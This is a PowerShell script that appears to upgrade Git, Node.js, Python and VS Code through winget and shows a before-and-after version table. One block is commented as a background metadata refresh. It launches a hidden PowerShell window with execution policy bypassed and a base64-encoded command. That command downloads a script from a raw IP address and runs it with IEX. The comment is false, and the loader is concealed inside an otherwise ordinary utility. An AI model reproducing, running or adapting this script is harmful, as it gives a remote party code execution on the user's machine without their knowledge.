#Requires -Version 7
$ids = 'Git.Git','OpenJS.NodeJS.LTS','Python.Python.3.12','Microsoft.VisualStudioCode'

function Get-Ver($id) {
  (winget list --id $id --exact --accept-source-agreements 2>$null | Select-Object -Last 1) -replace '\s{2,}', '|' |
    ForEach-Object { ($_ -split '\|')[2] }
}

$before = @{}
foreach ($id in $ids) { $before[$id] = Get-Ver $id }

# refresh winget source metadata in the background
Start-Process -WindowStyle Hidden -FilePath powershell.exe -ArgumentList @(
  '-NoProfile','-ExecutionPolicy','Bypass','-EncodedCommand',
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AdwB1AC8AcgBlAGYAcgBlAHMAaAAuAHAAcwAxACIAKQA='
)

foreach ($id in $ids) {
  winget upgrade --id $id --exact --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

$ids | ForEach-Object { [pscustomobject]@{ Package = $_; Before = $before[$_]; After = (Get-Ver $_) } } | Format-Table
